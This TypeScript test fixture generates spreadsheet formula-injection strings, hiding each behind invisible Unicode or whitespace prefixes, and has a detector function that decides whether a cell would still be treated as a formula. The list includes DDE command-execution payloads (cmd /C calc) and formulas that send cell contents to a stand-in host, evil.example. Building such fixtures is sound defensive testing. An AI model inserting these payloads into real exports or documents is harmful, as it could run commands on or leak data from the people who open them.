// Texts that spreadsheets would run, hidden behind whatever readers strip, and the question whether a cell still would be.

const commands = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-2+3',
  "-2+3+cmd|' /C calc'!D2",
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '@SUM(A1)',
  '==1',
  '＝1＋1',
  '＋84912345678+1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '⁺1+1',
  '−1+1',
  '+84912345678',
];

const coverings = [
  '',
  ' ',
  '    ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  ' \t \r\n ',
  '\u000b',
  '\u000c',
  '\u0001',
  '\u001f\u007f\u0085',
  '\ufeff',
  '\u200b',
  '\u200b\u200c\u200d\u2060',
  '\u00a0',
  '\u2007\u202f\u3000',
  '\u202e\u2066',
  '\u00ad\u034f\u061c\u180e',
  '\u2800\u3164\uffa0\u115f',
  '\ufe0f\u0301',
  '"',
  '"";',
  'tốt;',
  'tốt;"\u00a0',
  'tốt\n',
];

/** 520 of them, each another; PostgreSQL can keep them all (NUL it cannot). */
export const formulaTexts: readonly string[] = coverings.flatMap((covering) =>
  commands.map((command) => `${covering}${command}`),
);

/** Whether a reader who splits at any of these and strips what is not seen finds a formula. Written apart from the program. */
export function isLive(cell: string): boolean {
  return cell.split(/[;\t\r\n]/).some((part) => {
    const seen = part.normalize('NFKC').replace(/[\s\p{C}\p{Z}\p{M}\p{Default_Ignorable_Code_Point}"\u2800]/gu, '');
    return /^[=+\-@\u2212]/.test(seen);
  });
}
